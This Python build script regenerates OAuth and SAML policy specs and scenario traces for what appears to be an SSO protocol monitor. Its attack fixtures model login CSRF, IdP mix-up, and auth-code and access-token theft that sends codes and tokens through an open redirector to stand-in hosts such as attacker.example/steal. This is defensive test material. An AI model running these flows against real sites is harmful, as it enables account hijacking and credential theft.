#!/usr/bin/env python3
"""Regenerate the bundled spec XML files and scenario traces.

The Google authorization-code spec without ``state`` is kept verbatim and
never overwritten. Everything else is produced from the templates below.

    python3 scripts/build_library.py [--check]
"""
from __future__ import annotations

import argparse
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
LIB = ROOT / "src" / "protomon" / "library"
sys.path.insert(0, str(ROOT / "src"))

from protomon.library.catalog import DEFAULT_ORDER, GIGYA_SPEC, SAML_SPEC  # noqa: E402
from protomon.library.scenario import dump_scenario  # noqa: E402
from protomon.spec import parse_spec, validate_spec  # noqa: E402

VERBATIM = "google-explicit-nostate"
TOY_SPEC = "toy-explicit-nostate"

PROVIDERS = {
    "google": dict(
        endpoint=r"https://accounts\.google\.com/o/oauth2/(?:.*?/)?auth",
        origin="https://accounts.google.com/",
        auth_url="https://accounts.google.com/o/oauth2/auth",
        pin_response_type=True,
    ),
    "facebook": dict(
        endpoint=r"https://www\.facebook\.com/(?:v[0-9.]+/)?dialog/oauth",
        origin="https://www.facebook.com/",
        auth_url="https://www.facebook.com/v2.8/dialog/oauth",
        pin_response_type=False,
    ),
    "vk": dict(
        endpoint=r"https://oauth\.vk\.com/authorize",
        origin="https://oauth.vk.com/",
        auth_url="https://oauth.vk.com/authorize",
        pin_response_type=False,
    ),
}

# -- spec templates -----------------------------------------------------------

def _esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;")


def oauth_explicit(name, p, with_state):
    rt = '\n            <Parameter name="response_type"> code </Parameter>' if p["pin_response_type"] else ""
    st_init = '\n            <Parameter name="state" id="req_init_state">\n                <Regexp> ^.+$ </Regexp>\n            </Parameter>' if with_state else ""
    st_code = '\n            <Parameter name="state" id="req_code_state" />' if with_state else ""
    st_def = f"""
        <Definition id="resp_state">
            <Source> ${{resp_init_location}} </Source>
            <Regexp> {_esc("[?&]state=(.*?)(?:&|$)")} </Regexp>
        </Definition>""" if with_state else ""
    st_pol = f"""
        <Secrecy>
            <Target> ${{resp_state}} </Target>
            <Origin> ${{origin}} </Origin>
            <Origin> {p["origin"]} </Origin>
        </Secrecy>
        <Integrity>
            <Target> ${{resp_state}} </Target>
            <Matches> ${{req_init_state}} </Matches>
        </Integrity>
        <Integrity>
            <Target> ${{req_code_state}} </Target>
            <Matches> ${{req_init_state}} </Matches>
        </Integrity>""" if with_state else ""
    return f"""<Specification name="{name}">
    <Protocol>
        <Request method="GET" desc="req_init">
            <Endpoint>
                <Regexp> {p["endpoint"]} </Regexp>
            </Endpoint>{rt}
            <Parameter name="redirect_uri" id="req_init_redirect_uri" />{st_init}
        </Request>
        <Response desc="resp_init">
            <Endpoint>
                <Regexp> {p["endpoint"]} </Regexp>
            </Endpoint>
            <Header name="Location" id="resp_init_location" />
        </Response>
        <Request method="GET" desc="req_code">
            <Endpoint id="uri2"/>
            <Parameter name="code">
                <Regexp> [^\\s]{{40,}} </Regexp>
            </Parameter>{st_code}
        </Request>
    </Protocol>
    <Identifiers>
        <Definition id="uri1">
            <Source> ${{req_init_redirect_uri}} </Source>
            <Regexp> ^(https?://.*?)(?:\\?|$) </Regexp>
        </Definition>
        <Definition id="origin">
            <Source> ${{req_init_redirect_uri}} </Source>
            <Regexp> ^(https?://.*?/).* </Regexp>
        </Definition>
        <Definition id="authcode">
            <Source> ${{resp_init_location}} </Source>
            <Regexp> {_esc("[?&]code=(.*?)(?:&|$)")} </Regexp>
        </Definition>{st_def}
    </Identifiers>
    <Policy>
        <Secrecy>
            <Target> ${{authcode}} </Target>
            <Origin> ${{origin}} </Origin>
            <Origin> {p["origin"]} </Origin>
        </Secrecy>
        <Integrity>
            <Target> ${{uri2}} </Target>
            <Matches> ${{uri1}} </Matches>
        </Integrity>{st_pol}
    </Policy>
</Specification>
"""


def oauth_implicit(name, p, with_state):
    st_init = '\n            <Parameter name="state" id="req_init_state">\n                <Regexp> ^.+$ </Regexp>\n            </Parameter>' if with_state else ""
    st_tok = '\n            <Parameter name="state" id="req_token_state" />' if with_state else ""
    st_def = f"""
        <Definition id="resp_state">
            <Source> ${{resp_init_location}} </Source>
            <Regexp> {_esc("[#&]state=(.*?)(?:&|$)")} </Regexp>
        </Definition>""" if with_state else ""
    st_pol = f"""
        <Secrecy>
            <Target> ${{resp_state}} </Target>
            <Origin> ${{origin}} </Origin>
            <Origin> {p["origin"]} </Origin>
        </Secrecy>
        <Integrity>
            <Target> ${{resp_state}} </Target>
            <Matches> ${{req_init_state}} </Matches>
        </Integrity>
        <Integrity>
            <Target> ${{req_token_state}} </Target>
            <Matches> ${{req_init_state}} </Matches>
        </Integrity>""" if with_state else ""
    return f"""<Specification name="{name}">
    <!-- the token arrives in the redirect URI fragment; a script at the RP
         page posts it back to the RP origin as a URL parameter -->
    <Protocol>
        <Request method="GET" desc="req_init">
            <Endpoint>
                <Regexp> {p["endpoint"]} </Regexp>
            </Endpoint>
            <Parameter name="response_type"> token </Parameter>
            <Parameter name="redirect_uri" id="req_init_redirect_uri" />{st_init}
        </Request>
        <Response desc="resp_init">
            <Endpoint>
                <Regexp> {p["endpoint"]} </Regexp>
            </Endpoint>
            <Header name="Location" id="resp_init_location" />
        </Response>
        <Request desc="req_token">
            <Endpoint id="uri2"/>
            <Parameter name="access_token">
                <Regexp> [^\\s&amp;#]{{40,}} </Regexp>
            </Parameter>{st_tok}
        </Request>
    </Protocol>
    <Identifiers>
        <Definition id="origin">
            <Source> ${{req_init_redirect_uri}} </Source>
            <Regexp> ^(https?://.*?/).* </Regexp>
        </Definition>
        <Definition id="token">
            <Source> ${{resp_init_location}} </Source>
            <Regexp> {_esc("[#&]access_token=(.*?)(?:&|$)")} </Regexp>
        </Definition>
        <Definition id="req_token_origin">
            <Source> ${{uri2}} </Source>
            <Regexp> ^(https?://.*?/).* </Regexp>
        </Definition>{st_def}
    </Identifiers>
    <Policy>
        <Secrecy>
            <Target> ${{token}} </Target>
            <Origin> ${{origin}} </Origin>
            <Origin> {p["origin"]} </Origin>
        </Secrecy>
        <Integrity>
            <Target> ${{req_token_origin}} </Target>
            <Matches> ${{origin}} </Matches>
        </Integrity>{st_pol}
    </Policy>
</Specification>
"""


SAML_XML = """<Specification name="saml-sp-redirect-post">
    <!-- SP-initiated SSO, HTTP-Redirect binding towards the IdP and
         HTTP-POST binding back to the SP's assertion consumer service -->
    <Protocol>
        <Request method="GET" desc="req_authn">
            <Endpoint>
                <Regexp> https://idp\\.university\\.example/sso/redirect </Regexp>
            </Endpoint>
            <Parameter name="SAMLRequest">
                <Regexp> ^[A-Za-z0-9+/=%]+$ </Regexp>
            </Parameter>
            <Parameter name="RelayState" id="relay_req" />
        </Request>
        <Response desc="resp_login">
            <Endpoint>
                <Regexp> https://idp\\.university\\.example/sso/redirect </Regexp>
            </Endpoint>
            <Header name="Content-Type">
                <Regexp> ^text/html </Regexp>
            </Header>
        </Response>
        <Request method="POST" desc="req_acs">
            <Endpoint>
                <Regexp> https://www\\.google\\.com/a/[^/]+/acs </Regexp>
            </Endpoint>
            <Parameter name="SAMLResponse">
                <Regexp> ^[A-Za-z0-9+/=]+$ </Regexp>
            </Parameter>
            <Parameter name="RelayState" id="relay_acs" />
        </Request>
    </Protocol>
    <Policy>
        <Integrity> <!-- RelayState must come back unchanged -->
            <Target> ${relay_acs} </Target>
            <Matches> ${relay_req} </Matches>
        </Integrity>
    </Policy>
</Specification>
"""

GIGYA_XML = """<Specification name="gigya-facebook-explicit">
    <!-- Facebook login brokered by socialize.gigya.com, which hands a
         code-shaped token on to the RP once the OAuth run is over -->
    <Protocol>
        <Request method="GET" desc="req_init">
            <Endpoint>
                <Regexp> https://www\\.facebook\\.com/(?:v[0-9.]+/)?dialog/oauth </Regexp>
            </Endpoint>
            <Parameter name="redirect_uri" id="req_init_redirect_uri">
                <Regexp> ^https://socialize\\.gigya\\.com/ </Regexp>
            </Parameter>
        </Request>
        <Response desc="resp_init">
            <Endpoint>
                <Regexp> https://www\\.facebook\\.com/(?:v[0-9.]+/)?dialog/oauth </Regexp>
            </Endpoint>
            <Header name="Location" id="resp_init_location" />
        </Response>
        <Request method="GET" desc="req_code">
            <Endpoint id="uri2"/>
            <Parameter name="code">
                <Regexp> [^\\s]{40,} </Regexp>
            </Parameter>
        </Request>
        <Request method="GET" desc="req_finish">
            <Endpoint />
            <Parameter name="code">
                <Regexp> [^\\s]{40,} </Regexp>
            </Parameter>
        </Request>
    </Protocol>
    <Identifiers>
        <Definition id="uri1">
            <Source> ${req_init_redirect_uri} </Source>
            <Regexp> ^(https?://.*?)(?:\\?|$) </Regexp>
        </Definition>
        <Definition id="origin">
            <Source> ${req_init_redirect_uri} </Source>
            <Regexp> ^(https?://.*?/).* </Regexp>
        </Definition>
        <Definition id="authcode">
            <Source> ${resp_init_location} </Source>
            <Regexp> [?&amp;]code=(.*?)(?:&amp;|$) </Regexp>
        </Definition>
    </Identifiers>
    <Policy>
        <Secrecy>
            <Target> ${authcode} </Target>
            <Origin> ${origin} </Origin>
            <Origin> https://www.facebook.com/ </Origin>
        </Secrecy>
        <Integrity>
            <Target> ${uri2} </Target>
            <Matches> ${uri1} </Matches>
        </Integrity>
    </Policy>
</Specification>
"""

# plain-http provider for the live loop; hosts are mapped by the proxy config
TOY_XML = """<Specification name="toy-explicit-nostate">
    <Protocol>
        <Request method="GET" desc="req_init">
            <Endpoint>
                <Regexp> http://idp\\.toy(?::[0-9]+)?/authorize </Regexp>
            </Endpoint>
            <Parameter name="response_type"> code </Parameter>
            <Parameter name="redirect_uri" id="req_init_redirect_uri" />
        </Request>
        <Response desc="resp_init">
            <Endpoint>
                <Regexp> http://idp\\.toy(?::[0-9]+)?/authorize </Regexp>
            </Endpoint>
            <Header name="Location" id="resp_init_location" />
        </Response>
        <Request method="GET" desc="req_code">
            <Endpoint id="uri2"/>
            <Parameter name="code">
                <Regexp> [^\\s]{40,} </Regexp>
            </Parameter>
        </Request>
    </Protocol>
    <Identifiers>
        <Definition id="uri1">
            <Source> ${req_init_redirect_uri} </Source>
            <Regexp> ^(https?://.*?)(?:\\?|$) </Regexp>
        </Definition>
        <Definition id="origin">
            <Source> ${req_init_redirect_uri} </Source>
            <Regexp> ^(https?://.*?/).* </Regexp>
        </Definition>
        <Definition id="authcode">
            <Source> ${resp_init_location} </Source>
            <Regexp> [?&amp;]code=(.*?)(?:&amp;|$) </Regexp>
        </Definition>
    </Identifiers>
    <Policy>
        <Secrecy>
            <Target> ${authcode} </Target>
            <Origin> ${origin} </Origin>
            <Origin> http://idp.toy/ </Origin>
        </Secrecy>
        <Integrity>
            <Target> ${uri2} </Target>
            <Matches> ${uri1} </Matches>
        </Integrity>
    </Policy>
</Specification>
"""


def all_specs() -> dict:
    out = {}
    for prov, p in PROVIDERS.items():
        for mode in ("implicit", "explicit"):
            for st in ("state", "nostate"):
                name = f"{prov}-{mode}-{st}"
                if name == VERBATIM:
                    continue
                tmpl = oauth_explicit if mode == "explicit" else oauth_implicit
                out[name] = tmpl(name, p, st == "state")
    out[SAML_SPEC] = SAML_XML
    out[GIGYA_SPEC] = GIGYA_XML
    out[TOY_SPEC] = TOY_XML
    return out


# -- scenario templates -------------------------------------------------------

RP = "https://rp.example"
CLIENT = "rp-client-4711"


def _tok(tag: str, n: int = 48) -> str:
    """Deterministic opaque credential of length n."""
    base = (tag.replace("-", "") + "Xq7Lm2Pz9Rt4Vw8Ks3Bn6Hd1Fg5Jc0") * 8
    return base[:n]


def req(actor, url, params=(), method="GET", headers=(), expect="allow", reason=None, dt=0, body=None):
    d = {"actor": actor, "direction": "request", "method": method, "url": url,
         "headers": [list(h) for h in headers], "params": [list(p) for p in params]}
    if body is not None:
        d["body"] = body
    d.update(expect=expect, expect_reason=reason)
    if dt:
        d["time_offset_s"] = dt
    return d


def resp(actor, url, status=302, headers=(), expect="allow", reason=None, body=None, dt=0):
    d = {"actor": actor, "direction": "response", "url": url, "status": status,
         "headers": [list(h) for h in headers]}
    if body is not None:
        d["body"] = body
    d.update(expect=expect, expect_reason=reason)
    if dt:
        d["time_offset_s"] = dt
    return d


def _auth_params(rt, cb, state=None):
    ps = [("response_type", rt), ("client_id", CLIENT), ("redirect_uri", cb), ("scope", "email")]
    if state:
        ps.append(("state", state))
    return ps


def _qs(url, params):
    from urllib.parse import urlencode
    return f"{url}?{urlencode(params)}"


def benign_oauth(prov, mode, with_state):
    p = PROVIDERS[prov]
    cb = f"{RP}/cb/{prov}"
    state = _tok(f"st{prov}{mode}", 24) if with_state else None
    params = _auth_params("code" if mode == "explicit" else "token", cb, state)
    auth = _qs(p["auth_url"], params)
    steps = [
        req("browser", f"{RP}/login/{prov}"),
        resp("rp", f"{RP}/login/{prov}", headers=[("Location", auth)]),
        req("browser", p["auth_url"], params),
    ]
    if mode == "explicit":
        code = _tok(f"code{prov}", 46)
        loc = f"{cb}?code={code}" + (f"&state={state}" if state else "")
        steps += [
            resp("idp", auth, headers=[("Location", loc), ("Cache-Control", "no-store")],
                 expect="allow-rewritten", reason="placeholder-created"),
            req("browser", cb, [("code", code)] + ([("state", state)] if state else []),
                expect="allow-rewritten", reason="placeholder-substituted"),
            resp("rp", _qs(cb, [("code", code)] + ([("state", state)] if state else [])),
                 status=200, headers=[("Content-Type", "text/html")], body="<p>welcome</p>"),
        ]
    else:
        token = _tok(f"tok{prov}", 52)
        frag = f"access_token={token}&token_type=bearer&expires_in=3600" + (f"&state={state}" if state else "")
        steps += [
            resp("idp", auth, headers=[("Location", f"{cb}#{frag}")],
                 expect="allow-rewritten", reason="placeholder-created"),
            req("browser", cb),
            resp("rp", cb, status=200, headers=[("Content-Type", "text/html")],
                 body="<script>/* reads location.hash */</script>"),
            req("browser", f"{cb}/token", [("access_token", token)] + ([("state", state)] if state else []),
                expect="allow-rewritten", reason="placeholder-substituted"),
        ]
    name = f"benign-{prov}-{mode}-{'state' if with_state else 'nostate'}"
    head = {"scenario": name, "kind": "benign", "specs": list(DEFAULT_ORDER),
            "description": f"Complete {prov} {'authorization-code' if mode == 'explicit' else 'implicit'} "
                           f"login {'with' if with_state else 'without'} state."}
    return name, head, steps


SAML_IDP = "https://idp.university.example/sso/redirect"
SAML_ACS = "https://www.google.com/a/university.example/acs"
SAML_REQ = "PHNhbWxwOkF1dGhuUmVxdWVzdCBJRD0iXzEyMyIvPg=="
SAML_RESP = "PHNhbWxwOlJlc3BvbnNlIElEPSJfNDU2Ij48L3NhbWxwOlJlc3BvbnNlPg=="
SAML_URI = "https://mail.google.com/a/university.example/"


def saml_steps(relay_acs=SAML_URI, relay_req=SAML_URI, last_expect="allow", last_reason=None):
    ps = [("SAMLRequest", SAML_REQ), ("RelayState", relay_req)]
    return [
        req("browser", SAML_IDP, ps),
        resp("idp", _qs(SAML_IDP, ps), status=200, headers=[("Content-Type", "text/html; charset=utf-8")],
             body="<form method=post action=acs>...</form>"),
        req("browser", SAML_ACS, [("SAMLResponse", SAML_RESP), ("RelayState", relay_acs)], method="POST",
            expect=last_expect, reason=last_reason),
    ]


def attack_scenarios():
    g, f, v = PROVIDERS["google"], PROVIDERS["facebook"], PROVIDERS["vk"]
    out = []

    def add(name, cls, step, desc, steps, specs=DEFAULT_ORDER, kind="attack"):
        head = {"scenario": name, "kind": kind, "attack_class": cls, "attack_step": step,
                "description": desc, "specs": list(specs)}
        if kind != "attack":
            head.pop("attack_step")
        out.append((name, head, steps))

    att_code = _tok("attackercode", 46)
    add("session-swapping", "flow", 1,
        "The attacker's page makes the victim's browser load the RP redirect URI with a code "
        "issued to the attacker. No run is in progress, so the code-bearing request is out of order.",
        [req("attacker-page", "https://attacker.example/"),
         req("attacker-page", f"{RP}/cb/google", [("code", att_code)], expect="block", reason="flow-deviation")])

    att_tok = _tok("attackertoken", 52)
    add("social-login-csrf", "flow", 2,
        "Stateless implicit-mode client: the attacker's page forges the token-delivery request "
        "with the attacker's access token while the victim never started a login.",
        [req("attacker-page", "https://attacker.example/csrf"),
         resp("attacker-page", "https://attacker.example/csrf", status=200,
              headers=[("Content-Type", "text/html")], body="<img src=rp>"),
         req("attacker-page", f"{RP}/cb/facebook/token", [("access_token", att_tok)],
             expect="block", reason="flow-deviation")])

    vk_cb = f"{RP}/cb/vk"
    vk_params = _auth_params("code", vk_cb)
    g_auth = _qs(g["auth_url"], _auth_params("code", f"{RP}/cb/google"))
    add("idp-mixup", "flow", 2,
        "Web-attacker IdP mix-up: the user picks the attacker-controlled provider (played by the "
        "vk endpoint), which answers the authorization request by redirecting to the honest "
        "Google endpoint. The redirect carries no code and passes as unrelated traffic; the "
        "Google authorization request then arrives in the middle of the vk run.",
        [req("browser", v["auth_url"], vk_params),
         resp("idp", _qs(v["auth_url"], vk_params), headers=[("Location", g_auth)]),
         req("browser", g["auth_url"], _auth_params("code", f"{RP}/cb/google"),
             expect="block", reason="flow-deviation")])

    # -- secrecy --
    g_cb_redir = f"{RP}/redirect?to=https://attacker.example/collect"
    code = _tok("codegoogle", 46)
    ps = _auth_params("code", g_cb_redir)
    add("auth-code-redirection", "secrecy", 5,
        "Open redirector at the RP used as redirect URI. Assumption: the redirector forwards its "
        "query client-side, so the attacker sees only what the page sees. The code reaches "
        "attacker.example as a placeholder.",
        [req("browser", g["auth_url"], ps),
         resp("idp", _qs(g["auth_url"], ps),
              headers=[("Location", f"{g_cb_redir}&code={code}")],
              expect="allow-rewritten", reason="placeholder-created"),
         req("browser", f"{RP}/redirect", [("to", "https://attacker.example/collect"), ("code", code)],
             expect="allow-rewritten", reason="placeholder-substituted"),
         resp("rp", _qs(f"{RP}/redirect", [("to", "https://attacker.example/collect"), ("code", code)]),
              status=200, headers=[("Content-Type", "text/html")], body="<script>go()</script>"),
         req("browser", f"{RP}/static/app.js"),
         req("attacker-page", "https://attacker.example/collect", [("code", code)],
             expect="allow-rewritten", reason="secrecy-confinement")])

    token = _tok("tokfacebook", 52)
    f_redir = f"{RP}/redirect?to=https://attacker.example/"
    ps = _auth_params("token", f_redir)
    add("access-token-redirection", "secrecy", 3,
        "Implicit mode with an open redirector as redirect URI: the fragment survives the hop to "
        "attacker.example, whose script sends the token home before the RP sees it.",
        [req("browser", f["auth_url"], ps),
         resp("idp", _qs(f["auth_url"], ps),
              headers=[("Location", f"{f_redir}#access_token={token}&token_type=bearer")],
              expect="allow-rewritten", reason="placeholder-created"),
         req("browser", "https://attacker.example/"),
         req("attacker-page", "https://attacker.example/steal", [("access_token", token)],
             expect="allow-rewritten", reason="secrecy-confinement")])

    code = _tok("code307", 46)
    cb = f"{RP}/cb/google"
    ps = _auth_params("code", cb)
    add("307-redirect", "secrecy", 3,
        "Assumption: the user's credential POST at the IdP is answered with a 307, and the RP "
        "callback is fronted by an SSO partner host (sso.attacker-rp.example) outside the code's "
        "secrecy set. The browser repeats the POST there with the credentials and the code; only "
        "the placeholder leaves.",
        [req("browser", g["auth_url"], ps),
         resp("idp", _qs(g["auth_url"], ps), status=307,
              headers=[("Location", f"{cb}?code={code}")],
              expect="allow-rewritten", reason="placeholder-created"),
         req("browser", "https://accounts.google.com/signin/challenge",
             [("Email", "victim@example.com"), ("Passwd", "hunter2")], method="POST"),
         req("browser", f"https://sso.attacker-rp.example/session?code={code}",
             [("Email", "victim@example.com"), ("Passwd", "hunter2")], method="POST",
             expect="allow-rewritten", reason="secrecy-confinement")])

    code = _tok("codeleak", 46)
    state = _tok("stateleak", 24)
    ps = _auth_params("code", cb, state)
    landing = _qs(cb, [("code", code), ("state", state)])
    add("state-leak", "secrecy", 5,
        "The page at the redirect URI embeds a resource from tracker.example; the browser sends "
        "the full callback URL in Referer. The code and state appear there only as placeholders.",
        [req("browser", g["auth_url"], ps),
         resp("idp", _qs(g["auth_url"], ps), headers=[("Location", landing)],
              expect="allow-rewritten", reason="placeholder-created"),
         req("browser", cb, [("code", code), ("state", state)],
             expect="allow-rewritten", reason="placeholder-substituted"),
         resp("rp", landing, status=200, headers=[("Content-Type", "text/html")],
              body='<img src="https://tracker.example/pixel.gif">'),
         req("browser", "https://tracker.example/favicon.ico"),
         req("tracker", "https://tracker.example/pixel.gif", headers=[("Referer", landing)],
             expect="allow-rewritten", reason="secrecy-confinement")])

    # -- integrity --
    fcb = f"{RP}/cb/facebook"
    state = _tok("statefb", 24)
    code = _tok("codefb", 46)
    ps = _auth_params("code", fcb, state)
    add("cross-social-network-csrf", "integrity", 2,
        "While the victim's Facebook login is in progress, an attacker page forges the callback "
        "with a code from the attacker's own account and a state of its choosing.",
        [req("browser", f["auth_url"], ps),
         resp("idp", _qs(f["auth_url"], ps), headers=[("Location", f"{fcb}?code={code}&state={state}")],
              expect="allow-rewritten", reason="placeholder-created"),
         req("attacker-page", fcb, [("code", att_code), ("state", "attacker-chosen")],
             expect="block", reason="integrity-failure")])

    code = _tok("attackeridpcode", 46)
    ps = _auth_params("code", vk_cb)
    add("naive-rp-session-integrity", "integrity", 2,
        "A malicious provider (played by the vk endpoint) redirects the browser to the RP's "
        "Google redirect URI instead of the one it was given.",
        [req("browser", v["auth_url"], ps),
         resp("idp", _qs(v["auth_url"], ps), headers=[("Location", f"{RP}/cb/google?code={code}")],
              expect="allow-rewritten", reason="placeholder-created"),
         req("browser", f"{RP}/cb/google", [("code", code)], expect="block", reason="integrity-failure")])

    add("saml-relaystate-tamper", "integrity", 2,
        "A malicious SP swaps the resource URI: RelayState at step 2 differs from the value sent "
        "to the assertion consumer service.",
        saml_steps(relay_req="https://evil-sp.example/resource",
                   last_expect="block", last_reason="integrity-failure"))

    add("saml-login-csrf", "flow", 0,
        "Google-style SP: the attacker's page auto-posts its own SAMLResponse to the ACS without "
        "any preceding authentication request.",
        [req("attacker-page", SAML_ACS, [("SAMLResponse", SAML_RESP), ("RelayState", SAML_URI)],
             method="POST", expect="block", reason="flow-deviation")])
    return out


def extra_scenarios():
    f = PROVIDERS["facebook"]
    gcb = "https://socialize.gigya.com/GS/Facebook/callback"
    ps = _auth_params("code", gcb)
    code = _tok("gigyafb", 46)
    handoff = _tok("gigyahandoff", 48)

    def steps(final_expect, final_reason):
        return [
            req("browser", f["auth_url"], ps),
            resp("idp", _qs(f["auth_url"], ps), headers=[("Location", f"{gcb}?code={code}")],
                 expect="allow-rewritten", reason="placeholder-created"),
            req("browser", gcb, [("code", code)], expect="allow-rewritten", reason="placeholder-substituted"),
            resp("rp", _qs(gcb, [("code", code)]), headers=[("Location", _qs(f"{RP}/gigya/login", [("code", handoff)]))]),
            req("browser", f"{RP}/gigya/login", [("code", handoff)], expect=final_expect, reason=final_reason),
        ]

    out = [
        ("gigya-without-spec", {"scenario": "gigya-without-spec", "kind": "extra",
                                "description": "Gigya-brokered Facebook login using only the stock "
                                               "catalog: the code-shaped hand-off request arrives after "
                                               "the run ended and is blocked.",
                                "specs": list(DEFAULT_ORDER)},
         steps("block", "flow-deviation")),
        ("gigya-with-spec", {"scenario": "gigya-with-spec", "kind": "extra",
                             "description": "Same traffic with the Gigya spec composed first: the "
                                            "hand-off is the final message of the run.",
                             "specs": [GIGYA_SPEC] + list(DEFAULT_ORDER)},
         steps("allow", None)),
    ]
    g = PROVIDERS["google"]
    cb = f"{RP}/cb/google"
    ps = _auth_params("code", cb)
    code = _tok("timeoutcode", 46)
    out.append(("run-timeout", {"scenario": "run-timeout", "kind": "extra",
                                "description": "A run abandoned after the provider's reply expires; "
                                               "a new login 301 s later starts fresh.",
                                "specs": list(DEFAULT_ORDER)},
                [req("browser", g["auth_url"], ps),
                 resp("idp", _qs(g["auth_url"], ps), headers=[("Location", f"{cb}?code={code}")],
                      expect="allow-rewritten", reason="placeholder-created", dt=1),
                 req("browser", g["auth_url"], ps, dt=301),
                 resp("idp", _qs(g["auth_url"], ps), headers=[("Location", f"{cb}?code={code}")],
                      expect="allow-rewritten", reason="placeholder-created", dt=1),
                 req("browser", cb, [("code", code)], expect="allow-rewritten",
                     reason="placeholder-substituted", dt=2)]))
    return out


def all_scenarios():
    out = []
    for prov in PROVIDERS:
        for mode in ("explicit", "implicit"):
            for st in (True, False):
                out.append(benign_oauth(prov, mode, st))
    out.append(("benign-saml", {"scenario": "benign-saml", "kind": "benign", "specs": list(DEFAULT_ORDER),
                                "description": "SP-initiated SAML login with an unchanged RelayState."},
                saml_steps()))
    return out + attack_scenarios() + extra_scenarios()


def subdir(head):
    return {"benign": "benign", "attack": "attacks", "extra": "extras"}[head["kind"]]


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true", help="fail if any generated file is stale")
    args = ap.parse_args(argv)
    files = {}
    for name, xml in all_specs().items():
        spec = parse_spec(xml)
        errs = [d for d in validate_spec(spec) if d.severity == "error"]
        if errs:
            print(f"{name}: {errs}", file=sys.stderr)
            return 1
        files[LIB / "specs" / f"{name}.xml"] = xml
    for name, head, steps in all_scenarios():
        files[LIB / "scenarios" / subdir(head) / f"{name}.scenario"] = dump_scenario(head, steps)
    stale = []
    for path, text in files.items():
        if not path.exists() or path.read_text(encoding="utf-8") != text:
            stale.append(path)
            if not args.check:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text, encoding="utf-8")
    for p in stale:
        print(("stale: " if args.check else "wrote ") + str(p.relative_to(ROOT)))
    return 1 if args.check and stale else 0


if __name__ == "__main__":
    sys.exit(main())
